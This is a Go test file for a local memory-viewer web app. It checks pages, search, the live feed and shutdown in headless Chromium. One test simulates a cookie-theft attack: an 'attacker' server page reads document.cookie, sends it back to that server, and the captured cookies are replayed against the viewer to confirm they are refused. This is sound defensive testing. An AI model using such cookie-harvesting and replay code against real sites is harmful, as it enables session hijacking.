//go:build linux

package tests

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/claude-mem/claude-mem-go/internal/memtest"
	"github.com/claude-mem/claude-mem-go/internal/testkit"
	"github.com/claude-mem/claude-mem-go/memory"
	"github.com/claude-mem/claude-mem-go/store"
	"github.com/claude-mem/claude-mem-go/viewer"
)

// viewerArtifacts is where the browser test leaves its screenshots (gitignored).
func viewerArtifacts(t *testing.T) string {
	dir := os.Getenv("CLAUDE_MEM_ARTIFACTS")
	if dir == "" {
		dir = filepath.Join(repoRoot, "tests", "artifacts", "viewer")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// chromium finds Debian's chromium; without it the test skips, unless CI=true.
func chromium(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	testkit.Missing(t, "no chromium on PATH (.ci/run installs it: apt-get install -y chromium); the viewer's browser test needs it")
	return ""
}

// headless starts Chromium with a fresh profile; it ends with the test.
func headless(t *testing.T, chrome string) context.Context {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.Headless,
		chromedp.DisableGPU, chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1100, 860),
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.NoFirstRun)
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancelA)
	ctx, cancel := chromedp.NewContext(actx)
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx); err != nil { // starts the browser, without a deadline
		t.Fatal(err)
	}
	return ctx
}

// viewerMemory stores what the screenshots show, through the store as the observer would.
type viewerMemory struct {
	t    *testing.T
	db   *store.DB
	runs int
}

func (m *viewerMemory) observe(sessionID, project string, obs []store.Observation, sum *store.Summary) {
	m.t.Helper()
	ctx := context.Background()
	m.runs++
	s := store.Session{ID: sessionID, Project: project, Cwd: "/home/dev/" + project, StartedAt: time.Now().Add(-30 * time.Hour)}
	e := store.Event{Hook: "PostToolUse", ToolName: "Edit", ToolUseID: fmt.Sprint("tu-", m.runs), Input: `{}`, Response: `{}`, At: time.Now()}
	memtest.Event(m.t, m.db, s, e)
	run := fmt.Sprint("run-", m.runs)
	if _, err := m.db.Claim(ctx, sessionID, run, 100, time.Now()); err != nil {
		m.t.Fatal(err)
	}
	memtest.Complete(m.t, m.db, run, obs, sum)
}

func seedViewerMemory(t *testing.T, dataDir string) *viewerMemory {
	db, err := memory.Memory{DataDir: dataDir}.OpenWrite()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	m := &viewerMemory{t: t, db: db}
	now := time.Now()
	ago := func(h float64) time.Time { return now.Add(-time.Duration(h * float64(time.Hour))) }
	m.observe("77aa-session-c", "website", []store.Observation{
		{Type: "feature", Title: "Dark mode follows the system setting", Subtitle: "prefers-color-scheme", At: ago(50)},
	}, nil)
	m.observe("4c2e-session-b", "claude-mem-go", []store.Observation{
		{Type: "change", Title: "Search cuts queries into plain words", Subtitle: "no FTS5 syntax reaches the engine", At: ago(27)},
		{Type: "refactor", Title: "Doctor report becomes a value", Subtitle: "rendered by hook doctor and the viewer's health page", At: ago(26)},
	}, nil)
	m.observe("9b1f-session-a", "claude-mem-go", []store.Observation{
		{Type: "discovery", Title: "Claude Code sends PostToolUseFailure for denied tools", Subtitle: "not PostToolUse with is_error",
			Narrative: "A denied tool call arrives as its own hook event; capture must accept both.", At: ago(4)},
		{Type: "decision", Title: "Observer runs use a fixed system prompt", Subtitle: "9,987 → 347 characters of system text per request",
			Narrative: "Replacing Claude Code's default system prompt cuts the request size; the events go in the user message.", Concepts: []string{"trade-off"}, At: ago(3.5)},
		{Type: "feature", Title: "Viewer timeline paginates by keyset", Subtitle: "constant cost at any depth",
			Narrative: "The timeline seeks on (project, at, id) instead of OFFSET, so page 2,000 costs what page 1 does.", Concepts: []string{"pattern"}, At: ago(2)},
		{Type: "bugfix", Title: "Stop no longer waits on a locked database", Subtitle: "the journal takes the write; ingestion happens later",
			Narrative: "Hook mode appended to SQLite directly and waited up to 10 s when the observer held the write lock. Captured records now go to an append-only journal and are ingested at Stop.",
			Facts:     []string{"one O_APPEND write per record", "ingestion is idempotent by record id"}, Concepts: []string{"problem-solution", "gotcha"},
			FilesRead: []string{"hooks/stop.go"}, FilesModified: []string{"journal/journal.go", "hooks/posttooluse.go"}, At: ago(1.2)},
	}, &store.Summary{Request: "Make capture never block the user", Investigated: "lock waits in hook mode",
		Learned: "SQLite's write lock is held for the observer's whole transaction", Completed: "journal + ingestion at Stop", NextSteps: "fallback journal dir on ENOSPC", At: ago(1)})
	for i := range 9 { // a week and a bit of observer runs for the cost page
		r := store.RunRecord{ID: fmt.Sprint("cost-", i), Project: "claude-mem-go", Outcome: "ok", StartedAt: ago(float64(24*i) + 0.5),
			Events: 10 + i, Observations: 3, Usage: store.Usage{InputTokens: int64(4000 + 900*i), OutputTokens: int64(700 + 50*i), CostUSD: 0.012 * float64(1+(i*5)%7)}}
		if err := db.RecordRun(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	memtest.Prompt(t, db, store.Session{ID: "9b1f-session-a", Project: "claude-mem-go"},
		store.Prompt{Text: "why does Stop hang when the observer is running?", At: ago(1.5)})
	return m
}

// TestViewerInABrowser drives headless Chromium against a real `hook viewer` process: the
// printed URL, projects, search and open the hit, forget it, the live feed receiving an
// observation stored meanwhile (inserted through the store from this process, as the
// observer would; the hook-mode + observer path is covered by its own tests), and a
// screenshot of every page. Then SIGTERM: the process exits 0 and the port is closed.
func TestViewerInABrowser(t *testing.T) {
	chrome := chromium(t)
	art := viewerArtifacts(t)
	dataDir := t.TempDir()
	home := t.TempDir()
	mem := seedViewerMemory(t, dataDir)

	// A claude executable and a credential, so the health page shows a working setup; the
	// observer is never started here.
	claude := filepath.Join(t.TempDir(), "claude")
	if err := os.WriteFile(claude, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	// The browser is opened the way a person's is: xdg-open (a fake that records what it
	// was given) on the launcher file; Chromium below opens that file.
	opener := t.TempDir()
	opened := filepath.Join(opener, "opened")
	if err := os.WriteFile(filepath.Join(opener, "xdg-open"), []byte("#!/bin/sh\nprintf '%s' \"$1\" > "+opened+".tmp && /bin/mv "+opened+".tmp "+opened+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(hookBin, "viewer", "--port", "0")
	cmd.Dir = dataDir
	cmd.Env = []string{"HOME=" + home, "CLAUDE_MEM_DATA_DIR=" + dataDir, "PATH=" + opener + ":" + binDir, "TZ=UTC", "DISPLAY=:99",
		"CLAUDE_MEM_CLAUDE_PATH=" + claude, "CLAUDE_CODE_OAUTH_TOKEN=sk-ant-oat01-viewer-test-not-a-real-token"}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	t.Cleanup(func() { cmd.Process.Kill() })
	lines := bufio.NewScanner(out)
	if !lines.Scan() {
		t.Fatalf("hook viewer printed nothing: %v", lines.Err())
	}
	_, url, _ := strings.Cut(lines.Text(), "viewer: ")
	m := viewerURL.FindStringSubmatch(url)
	if m == nil {
		t.Fatalf("no URL in %q", lines.Text())
	}
	port, base := m[2], "http://"+m[1]+":"+m[2]
	go func() {
		for lines.Scan() {
		}
		exited <- cmd.Wait()
	}()

	ctx := headless(t, chrome)
	step := func(name string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		sctx, scancel := context.WithTimeout(ctx, 15*time.Second)
		defer scancel()
		if err := chromedp.Do(sctx, actions...); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	shot := func(name string) {
		t.Helper()
		png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
		if err != nil {
			t.Fatalf("screenshot %s: %v", name, err)
		}
		if err := os.WriteFile(filepath.Join(art, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	text := func(sel string) string {
		t.Helper()
		s, err := chromedp.Run(ctx, chromedp.Text(sel))
		if err != nil {
			t.Fatalf("text of %s: %v", sel, err)
		}
		return s
	}
	location := func() string {
		t.Helper()
		l, err := chromedp.Run(ctx, chromedp.Location())
		if err != nil {
			t.Fatal(err)
		}
		return l
	}

	// The launcher file xdg-open was given: it redirects to the tokened address, whose
	// token becomes a cookie and leaves the address bar.
	var launcher []byte
	testkit.Eventually(t, 20*time.Second, "hook viewer to run xdg-open", func() bool {
		launcher, _ = os.ReadFile(opened)
		return len(launcher) > 0
	})
	step("open the launcher file", chromedp.Navigate("file://"+string(launcher)), chromedp.WaitVisible(`a[href="/timeline?project=claude-mem-go"]`))
	if l := location(); strings.Contains(l, "token") || l != base+"/" {
		t.Fatalf("address after opening the launcher: %s", l)
	}
	// The printed URL, opened by hand, does the same.
	step("open the printed URL", chromedp.Navigate(url), chromedp.WaitVisible(`a[href="/timeline?project=claude-mem-go"]`))
	if l := location(); strings.Contains(l, "token") || l != base+"/" {
		t.Fatalf("address after opening: %s", l)
	}
	if h := text("main h1"); h != "Projects" {
		t.Fatalf("projects page heading %q", h)
	}
	shot("projects")

	step("timeline", chromedp.Click(`a[href="/timeline?project=claude-mem-go"]`), chromedp.WaitVisible(`.day h2`))
	if s := text("main"); !strings.Contains(s, "Stop no longer waits on a locked database") || !strings.Contains(s, "Make capture never block the user") {
		t.Fatalf("timeline:\n%s", s)
	}
	shot("timeline")

	step("search", chromedp.SendKeys(`header input[name=q]`, "keyset"), chromedp.Submit(`header input[name=q]`),
		chromedp.WaitVisible(`ol.hits mark`))
	if mk := text(`ol.hits mark`); !strings.EqualFold(mk, "keyset") {
		t.Fatalf("highlight %q", mk)
	}
	shot("search")
	step("open the hit", chromedp.Click(`ol.hits li a`), chromedp.WaitVisible(`article.record`))
	if h := text("main h1"); h != "Viewer timeline paginates by keyset" {
		t.Fatalf("record heading %q", h)
	}
	hit := location()
	shot("record")

	step("forget: confirm", chromedp.Click(`form.danger button`), chromedp.WaitVisible(`form[method=post] button`))
	shot("forget")
	step("forget: apply", chromedp.Click(`form[method=post] button`), chromedp.WaitVisible(`h1.forgotten`))
	step("gone from search", chromedp.Navigate(base+"/search?q=keyset"), chromedp.WaitVisible(`section.empty`))
	if s := text("main"); !strings.Contains(s, "Nothing matches") {
		t.Fatalf("the forgotten observation is still found:\n%s", s)
	}
	step("gone: its page", chromedp.Navigate(hit), chromedp.WaitVisible(`main h1`))
	if h := text("main h1"); h != "Not found" {
		t.Fatalf("forgotten record page: %q", h)
	}

	step("session", chromedp.Navigate(base+"/session/9b1f-session-a"), chromedp.WaitVisible(`ol.prompts`))
	if h := text("main h1"); h != "Make capture never block the user" {
		t.Errorf("session page headed %q, want its request", h)
	}
	shot("session")

	// The context page holds, byte for byte, what SessionStart gives the project's next
	// session (the same environment and zone; no problem to report, so no notice line).
	step("context", chromedp.Navigate(base+"/context?project=claude-mem-go"), chromedp.WaitVisible(`pre#context`))
	shown := text("pre#context")
	shot("context")
	proj := filepath.Join(t.TempDir(), "claude-mem-go")
	if err := os.MkdirAll(proj, 0o755); err != nil {
		t.Fatal(err)
	}
	ss := exec.Command(hookBin)
	ss.Dir, ss.Env = proj, cmd.Env
	ss.Stdin = bytes.NewReader(fixtureEvent(t, "SessionStart-startup.json", map[string]any{"cwd": proj, "session_id": "browser-next"}))
	ssOut, err := ss.Output()
	var next sessionStartOut
	if err != nil || json.Unmarshal(ssOut, &next) != nil {
		t.Fatalf("SessionStart: %v: %q", err, ssOut)
	}
	if ctx := next.HookSpecificOutput.AdditionalContext; ctx != shown || !strings.Contains(ctx, "### ") {
		t.Errorf("the context page shows\n%s\nSessionStart gives\n%s", shown, ctx)
	}

	// The live feed: an observation stored while the page is open appears within 5 s.
	step("live", chromedp.Navigate(base+"/live"), chromedp.WaitVisible(`#feed li`))
	const liveTitle = "Live feed shows this without a reload"
	mem.observe("9b1f-session-a", "claude-mem-go", []store.Observation{{Type: "feature", Title: liveTitle,
		Subtitle: "server-sent events", At: time.Now()}}, nil)
	start := time.Now()
	step("live: the new observation appears", chromedp.Poll[chromedp.Void](
		fmt.Sprintf(`document.querySelector("#feed li a")?.textContent === %q`, liveTitle), chromedp.WithPollingTimeout(5*time.Second)))
	t.Logf("the live feed showed the new observation %v after it was stored", time.Since(start).Round(time.Millisecond))
	shot("live")

	for _, p := range []struct{ path, wait, name string }{
		{"/health", "main h1 .badge", "health"},
		{"/cost", "svg.chart rect", "cost"},
		{"/settings", "table.list td", "settings"},
	} {
		step(p.name, chromedp.Navigate(base+p.path), chromedp.WaitVisible(p.wait))
		shot(p.name)
		// Every page fits the window (1100 px wide here, under the 1280 of issue 25): no
		// column hidden past its right edge, no sideways scrolling.
		over, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(() => {
			const w = document.documentElement.clientWidth;
			if (document.documentElement.scrollWidth > w) return "the page scrolls sideways: " + document.documentElement.scrollWidth + " > " + w;
			for (const e of document.querySelectorAll("table, th, td, svg")) {
				const r = e.getBoundingClientRect();
				if (r.right > w + 0.5) return e.tagName + " ends at " + r.right + " > " + w + ": " + (e.textContent || "").slice(0, 60);
			}
			return "";
		})()`))
		if err != nil || over != "" {
			t.Errorf("%s: %s %v", p.path, over, err)
		}
	}

	// Dark mode follows the system setting: the same timeline with prefers-color-scheme: dark.
	step("dark timeline", chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := cdp.Call(ctx, tg, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}}})
		return err
	}), chromedp.Navigate(base+"/timeline?project=claude-mem-go"), chromedp.WaitVisible(`.day h2`))
	bg, err := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.body).backgroundColor`))
	if err != nil || bg != "rgb(22, 23, 26)" {
		t.Fatalf("dark background %q, %v", bg, err)
	}
	shot("timeline-dark")

	// SIGTERM stops it cleanly and nothing listens afterwards.
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-exited:
		if err != nil {
			t.Fatalf("hook viewer after SIGTERM: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("hook viewer did not stop on SIGTERM")
	}
	if c, err := net.DialTimeout("tcp", "127.0.0.1:"+port, time.Second); err == nil {
		c.Close()
		t.Fatal("something still listens on the viewer's port")
	}
	t.Logf("screenshots in %s", art)
}

// TestViewerCookieStaysHome is issue 31's attack, in a browser: the person opens the
// printed address (whose port on ::1, where the browser looks first, is the viewer's
// too), then visits another local user's server on another port of
// 127.0.0.1, of localhost, of another .localhost name. That server records every Cookie
// header it receives (navigation, image, fetch with credentials) and every cookie its
// page's script can see, and replays each against the viewer: all are refused, and it
// receives none. Controls: the browser still reads the viewer's private page; the same
// recorder under the viewer's own name on its port (cookies name no port) receives the
// cookie, whose replay is served, so neither the recorder nor the replay is blind.
func TestViewerCookieStaysHome(t *testing.T) {
	chrome := chromium(t)
	dataDir := t.TempDir()
	seedViewerMemory(t, dataDir)
	const private = "why does Stop hang when the observer is running?" // a prompt: the session page shows it

	cmd := exec.Command(hookBin, "viewer", "--port", "0", "--no-open")
	cmd.Dir = dataDir
	cmd.Env = []string{"HOME=" + t.TempDir(), "CLAUDE_MEM_DATA_DIR=" + dataDir, "PATH=" + binDir, "TZ=UTC"}
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	lines := bufio.NewScanner(out)
	if !lines.Scan() {
		t.Fatalf("hook viewer printed nothing: %v", lines.Err())
	}
	// --no-open prints the one address to click: the per-launch name, the token once.
	_, url, _ := strings.Cut(lines.Text(), "claude-mem viewer: ")
	m := viewerURL.FindStringSubmatch(url)
	if m == nil {
		t.Fatalf("no per-launch address in %q", lines.Text())
	}
	name, vport, token := m[1], m[2], m[3]
	go func() {
		for lines.Scan() {
		}
	}()
	base := "http://" + name + ":" + vport
	// A browser tries ::1 first for a .localhost name: were the viewer's port free there,
	// the other user would take it and receive the tokened address itself.
	if probe, err := net.Listen("tcp6", "[::1]:0"); err == nil {
		probe.Close()
		if ln, err := net.Listen("tcp6", "[::1]:"+vport); err == nil {
			ln.Close()
			t.Fatalf("[::1]:%s is free for another program to take", vport)
		}
	} else {
		t.Logf("no ::1 on this machine (%v): nobody can take it", err)
	}
	// replay is the attacker with curl: the viewer's own Host name, the cookie it got.
	replay := func(cookie string) (int, string) {
		t.Helper()
		r, _ := http.NewRequest("GET", "http://127.0.0.1:"+vport+"/session/9b1f-session-a", nil)
		r.Host = name + ":" + vport
		r.Header.Set("Cookie", cookie)
		res, err := http.DefaultClient.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}

	// The other user's server, on a port of its own.
	type seen struct{ host, path, cookie string }
	var mu sync.Mutex
	var got []seen
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	aport := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	attacker := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c := r.Header.Get("Cookie")
		if r.URL.Path == "/doc" { // what the page's script reads in document.cookie
			c = r.URL.Query().Get("c")
		}
		mu.Lock()
		got = append(got, seen{r.Host, r.URL.Path, c})
		mu.Unlock()
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, `<!doctype html><title>a local page</title><img id="px" src="/pixel">
<script>
const img = new Promise(ok => { const i = document.getElementById("px"); i.complete ? ok() : (i.onload = i.onerror = ok); });
Promise.all([img, fetch("/fetch", {credentials: "include"}), fetch("/doc?c=" + encodeURIComponent(document.cookie))])
  .then(() => document.body.insertAdjacentHTML("beforeend", '<p id="done">done</p>'));
</script>`)
		default:
			w.WriteHeader(http.StatusNoContent)
		}
	})}
	go attacker.Serve(ln)
	t.Cleanup(func() { attacker.Close() })

	ctx := headless(t, chrome)
	step := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		sctx, cancel := context.WithTimeout(ctx, 15*time.Second)
		defer cancel()
		if err := chromedp.Do(sctx, actions...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	readsPrivate := func(when string) {
		t.Helper()
		step(when, chromedp.Navigate(base+"/session/9b1f-session-a"), chromedp.WaitVisible(`ol.prompts`))
		if s, err := chromedp.Run(ctx, chromedp.Text("main")); err != nil || !strings.Contains(s, private) {
			t.Fatalf("%s: the browser does not read the private prompt (%v):\n%s", when, err, s)
		}
	}
	step("open the printed address", chromedp.Navigate(url), chromedp.WaitVisible(`a[href="/timeline?project=claude-mem-go"]`))
	readsPrivate("control: the viewer's private page")

	// What the browser holds: one host-only, HttpOnly, Strict session cookie for the
	// per-launch name, whose value is not the token.
	var jar []*network.Cookie
	step("the browser's cookies", chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		res, err := cdp.Call(ctx, tg, network.GetCookies, network.GetCookiesParams{URLs: []string{base + "/",
			"http://127.0.0.1:" + aport + "/", "http://localhost:" + aport + "/", "http://other.localhost:" + aport + "/"}})
		jar = res.Cookies
		return err
	}))
	if len(jar) != 1 {
		t.Fatalf("the browser holds %d cookies, want the viewer's one: %+v", len(jar), jar)
	}
	if c := jar[0]; c.Domain != name || !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict || !c.Session || c.Path != "/" || strings.Contains(c.Value, token) {
		t.Fatalf("the viewer's cookie in the browser: %+v (domain %q, want %q, not the token)", c, c.Domain, name)
	}
	held := jar[0].Name + "=" + jar[0].Value
	if code, _ := replay("claude_mem_viewer=" + token); code != http.StatusForbidden {
		t.Errorf("the URL token as the cookie: %d, want 403", code)
	}

	// The other server under every name a page of another user can have, and last, as the
	// control, under the viewer's own name.
	other, err := viewer.NewHost() // another launch's name
	if err != nil {
		t.Fatal(err)
	}
	origins := []string{"127.0.0.1", "localhost", "other.localhost", other}
	for _, host := range append(origins, name) {
		step("visit "+host+":"+aport, chromedp.Navigate("http://"+host+":"+aport+"/"), chromedp.WaitVisible(`#done`))
	}
	mu.Lock()
	defer mu.Unlock()
	leaked := 0
	for _, host := range append(origins, name) {
		paths := map[string]bool{}
		var cookies []string
		for _, s := range got {
			if s.host == host+":"+aport {
				paths[s.path] = true
				if s.cookie != "" {
					cookies = append(cookies, s.cookie)
				}
			}
		}
		if !paths["/"] || !paths["/pixel"] || !paths["/fetch"] || !paths["/doc"] {
			t.Fatalf("control: the page at %s:%s did not load whole: %v", host, aport, paths)
		}
		if host == name {
			if !slices.Contains(cookies, held) {
				t.Fatalf("control: the recorder under the viewer's name got %q, not the cookie %q", cookies, held)
			}
			if code, body := replay(held); code != http.StatusOK || !strings.Contains(body, private) {
				t.Fatalf("control: replaying the browser's cookie: %d", code)
			}
			continue
		}
		if leaked += len(cookies); len(cookies) > 0 {
			t.Errorf("%s:%s received cookies %q", host, aport, cookies)
		}
		slices.Sort(cookies)
		for _, h := range slices.Compact(cookies) {
			cs, _ := http.ParseCookie(h)
			for _, c := range cs {
				for _, try := range []string{c.Name + "=" + c.Value, "claude_mem_viewer=" + c.Value} {
					if code, body := replay(try); code != http.StatusForbidden || strings.Contains(body, private) {
						t.Errorf("%s:%s replayed %q: %d, the viewer answered", host, aport, try, code)
					}
				}
			}
		}
	}
	t.Logf("%d requests to the other server; %d under %v carried a cookie", len(got), leaked, origins)
	readsPrivate("control: the viewer's private page, after the visits")
}
